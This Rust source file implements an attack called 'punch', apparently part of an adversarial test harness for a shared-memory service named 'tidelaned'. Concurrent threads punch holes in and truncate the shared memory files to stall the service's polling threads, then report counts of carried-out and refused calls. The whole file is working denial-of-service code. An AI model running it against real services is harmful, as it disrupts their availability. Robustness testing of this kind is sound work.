//! The attack `punch`: punches holes into the attacker's own region, the memory that it shares with
//! the service (`tidelaned`). A page fault in a hole waits while the hole is being punched. A core,
//! which is a polling thread of the service, could therefore stall when it reads the region.

use std::{
    os::fd::OwnedFd,
    sync::Mutex,
    thread,
    time::{Duration, Instant},
};

use clap::Args;
use rustix::fs::{FallocateFlags, fallocate, fstat};
use serde_json::json;

use crate::{Target, protocol::Failure, region::Program, report};

/// Options of `punch`.
#[derive(Args, Debug)]
pub struct Options {
    /// MiB that each thread allocates in each memory file; more memory makes each punch longer
    #[arg(long, default_value_t = 256)]
    mib: u64,
    /// Number of threads
    #[arg(long, default_value_t = 2)]
    threads: u32,
    /// Duration in seconds
    #[arg(long, default_value_t = 2.0)]
    seconds: f64,
}

/// Numbers of calls, by kind, that the kernel carried out or refused.
#[derive(Debug, Default)]
struct Tally {
    /// Number of holes punched by `fallocate` through a descriptor from the service.
    punched: u64,
    /// Number of holes punched through the mapping of the region.
    removed: u64,
    /// Number of truncations of memory files by `ftruncate`.
    shrunk: u64,
    /// Number of calls of any kind that the kernel refused.
    refused: u64,
    /// Longest duration of a call that the kernel carried out.
    longest: Duration,
}

/// Punches holes into all memory from the service, with several concurrent threads.
pub fn run(target: &Target, options: &Options) -> Result<(), Failure> {
    let program = Program::register(target, "punch")?;
    // A core reads the rings of each context (the rings of one thread) in each iteration of its
    // loop.
    let _rings = program.context(0)?;
    let until = Instant::now() + Duration::from_secs_f64(options.seconds);
    let tally = Mutex::new(Tally::default());
    thread::scope(|scope| {
        for number in 0..options.threads {
            let (program, tally) = (&program, &tally);
            scope.spawn(move || {
                while Instant::now() < until {
                    punch(program, number, options.mib << 20, tally);
                    program.ring_cores();
                }
            });
        }
    });
    let tally = tally.into_inner().unwrap_or_default();
    report(&json!({
        "attack": "punch", "punched": tally.punched, "removed": tally.removed,
        "shrunk": tally.shrunk, "refused": tally.refused,
        "longest_us": tally.longest.as_micros() as u64,
    }));
    Ok(())
}

/// Allocates up to `len` bytes near the end of each memory file. Then tries to punch a hole that
/// covers the file, and to truncate the file. Finally tries to punch a hole through the mapping of
/// the region. `number` is the number of the thread: threads with even numbers and threads with odd
/// numbers allocate different bytes.
fn punch(program: &Program, number: u32, len: u64, tally: &Mutex<Tally>) {
    for memory in program.memories() {
        let Ok(stat) = fstat(memory) else { continue };
        let whole = stat.st_size as u64;
        let filled = (whole / 2).min(len);
        let at = whole - filled * u64::from(number % 2 + 1);
        let _ = fallocate(memory, FallocateFlags::KEEP_SIZE, at, filled);
        let hole = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
        tally_up(
            tally,
            |tally| &mut tally.punched,
            || fallocate(memory, hole, 0, whole).is_ok(),
        );
        tally_up(tally, |tally| &mut tally.shrunk, || shrink(memory));
    }
    tally_up(
        tally,
        |tally| &mut tally.removed,
        || {
            let region = &program.region;
            region.punch_hole(0, region.len()).is_ok()
        },
    );
}

/// Truncates the memory file to 4096 bytes, and restores its length. Returns true if the kernel
/// allowed the truncation.
fn shrink(memory: &OwnedFd) -> bool {
    let Ok(stat) = fstat(memory) else {
        return false;
    };
    let shrunk = rustix::fs::ftruncate(memory, 4096).is_ok();
    let _ = rustix::fs::ftruncate(memory, stat.st_size as u64);
    shrunk
}

/// Makes the call `call`. If `call` returns true, increments `field` of `tally`. Otherwise,
/// increments `refused`.
fn tally_up(
    tally: &Mutex<Tally>,
    field: impl Fn(&mut Tally) -> &mut u64,
    call: impl FnOnce() -> bool,
) {
    let begun = Instant::now();
    let carried_out = call();
    let took = begun.elapsed();
    let Ok(mut tally) = tally.lock() else { return };
    if carried_out {
        *field(&mut tally) += 1;
        tally.longest = tally.longest.max(took);
    } else {
        tally.refused += 1;
    }
}
